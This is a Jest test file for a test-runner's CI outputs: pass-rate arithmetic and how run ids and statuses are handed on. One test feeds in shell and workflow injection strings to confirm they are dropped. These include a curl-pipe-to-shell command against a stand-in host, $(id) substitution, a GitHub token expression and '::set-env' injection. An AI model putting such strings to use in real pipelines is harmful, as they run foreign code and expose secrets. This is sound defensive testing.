import { describe, expect, it } from '@jest/globals';
import type { IterationReport, Outcome, RunReport } from '../../src/model/run-report.ts';
import type { Verdict } from '../../src/model/verdict.ts';
import { outputNotices, outputsOf } from '../../src/runner/outputs.ts';

const verdict: Verdict = { value: 'failed', checks: [], judged: null, troubles: [] };

function iteration(outcome: Outcome): IterationReport {
  return {
    id: 'i',
    number: 1,
    outcome,
    startedAtMs: null,
    durationMs: null,
    tokens: { input: null, output: null, total: null },
    model: null,
    provider: null,
    error: null,
    errorDetails: null,
    expectedToolCalls: [],
    actualToolCalls: [],
    analysis: null,
    assertions: [],
    flaky: false,
    attempts: 1,
  };
}

function report(outcomes: Outcome[]): RunReport {
  return {
    source: 'run',
    suite: { id: 'st_1', name: 'smoke' },
    project: null,
    run: {
      id: 'r_1',
      number: 1,
      status: 'completed',
      result: 'failed',
      createdAtMs: null,
      completedAtMs: null,
      notes: null,
      declared: null,
    },
    servers: [],
    cases: [{ id: 'c', title: 'c', location: null, iterations: outcomes.map(iteration) }],
    problems: [],
    warnings: [],
    notice: null,
  };
}

const PLACES = {
  reportPath: '/tmp/r.json',
  summaryPath: '/tmp/r.md',
  commentUrl: 'https://github.test/comment',
  artifactUrl: 'https://github.test/artifact',
};

describe('outputs in the words of others', () => {
  const sample = report(['passed']);
  const withWords = (text: string): RunReport => ({
    ...sample,
    suite: { id: text, name: 'smoke' },
    run: sample.run && { ...sample.run, id: text, status: text },
  });
  const words = (text: string) => {
    const outputs = outputsOf(withWords(text), verdict, {});
    return ['status', 'run-id', 'suite-id'].map((name) => Reflect.get(outputs, name));
  };

  it.each(['completed', 'r_1', 'jd7f0-9A', 'urn:run:1.2', 'timed_out', 'x'.repeat(200)])(
    'are handed on where they are plain: %s',
    (text) => {
      expect(words(text)).toEqual([text, text, text]);
      expect(outputNotices(withWords(text))).toEqual([]);
    },
  );

  it.each([
    '"; curl https://a.example | sh; "',
    '$(id)',
    '`id`',
    "' || true #",
    'a\nverdict=passed',
    'a b',
    '-rf',
    '../../x',
    '$\u007b{ github.token }}',
    'a<<EOF',
    '%0A::set-env',
    'é',
    'completed\u200b',
    'x'.repeat(201),
  ])('are left out, and named, where they are not: %j', (text) => {
    expect(words(text)).toEqual(['', '', '']);
    const notices = outputNotices(withWords(text));
    expect(notices.map((notice) => notice.split(' ')[1])).toEqual(['status', 'run-id', 'suite-id']);
    for (const notice of notices) expect(notice).not.toContain(text);
  });
});

describe('the ids of several runs that are judged as one', () => {
  const joined = (ids: string): RunReport => {
    const sample = report(['passed']);
    return { ...sample, run: sample.run && { ...sample.run, id: ids } };
  };

  it('are no id of a run, which surprises nobody', () => {
    expect(outputsOf(joined('r_1, r_2'), verdict, {})['run-id']).toBe('');
    expect(outputNotices(joined('r_1, r_2'))).toEqual([]);
  });

  it('are told of where one of them is not plain', () => {
    expect(outputNotices(joined('r_1, $(id)'))).toHaveLength(1);
  });
});

describe('outputsOf', () => {
  it('counts iterations, without the skipped ones', () => {
    const outcomes: Outcome[] = ['passed', 'passed', 'failed', 'error', 'unfinished', 'skipped'];
    expect(outputsOf(report(outcomes), verdict, PLACES)).toEqual({
      verdict: 'failed',
      status: 'completed',
      result: 'failed',
      'run-id': 'r_1',
      'suite-id': 'st_1',
      total: '5',
      passed: '2',
      failed: '2',
      'pass-rate': '40',
      'false-alarm-rate': '',
      'report-path': '/tmp/r.json',
      'summary-path': '/tmp/r.md',
      'comment-url': 'https://github.test/comment',
      'artifact-url': 'https://github.test/artifact',
    });
  });

  it('leaves empty what is not known', () => {
    const { verdict: value, ...others } = outputsOf(null, verdict, {});
    expect(value).toBe('failed');
    expect(new Set(Object.values(others))).toEqual(new Set(['']));
  });

  it.each([
    [2, 3, '66.66'],
    [29, 100, '29'],
    [9_999, 10_000, '99.99'],
    [99_999, 100_000, '99.99'],
    [0, 4, '0'],
    [4, 4, '100'],
  ])('writes %d of %d as percent, never better than it is', (passed, total, expected) => {
    const outcomes = Array.from(
      { length: total },
      (_, index): Outcome => (index < passed ? 'passed' : 'failed'),
    );
    expect(outputsOf(report(outcomes), verdict, {})['pass-rate']).toBe(expected);
  });

  it('has no pass rate where nothing counts', () => {
    expect(outputsOf(report(['skipped']), verdict, {})['pass-rate']).toBe('');
  });
});
